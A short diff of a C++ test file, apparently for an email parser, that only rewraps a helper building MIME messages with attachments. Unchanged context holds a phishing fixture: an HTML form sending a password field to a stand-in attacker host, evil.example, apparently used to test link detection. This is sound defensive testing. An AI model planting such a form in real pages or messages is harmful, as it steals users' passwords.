@@ -13,11 +13,14 @@ namespace {
 const std::string kPage =
     "<form action='https://evil.example/take?m=1'><input type=password></form>";
 
-std::string mail_with(const std::string& name, const std::string& type, const std::string& content) {
-  return "From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
+std::string mail_with(const std::string& name, const std::string& type,
+                      const std::string& content) {
+  return "From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; "
+         "boundary=b\r\n\r\n"
          "--b\r\nContent-Type: text/plain\r\n\r\nHello\r\n"
-         "--b\r\nContent-Type: " + type + "\r\nContent-Disposition: attachment; filename=" + name +
-         "\r\n\r\n" + content + "\r\n--b--\r\n";
+         "--b\r\nContent-Type: " +
+         type + "\r\nContent-Disposition: attachment; filename=" + name + "\r\n\r\n" + content +
+         "\r\n--b--\r\n";
 }
 
 bool has_link(const ParsedMessage& message, std::string_view host) {
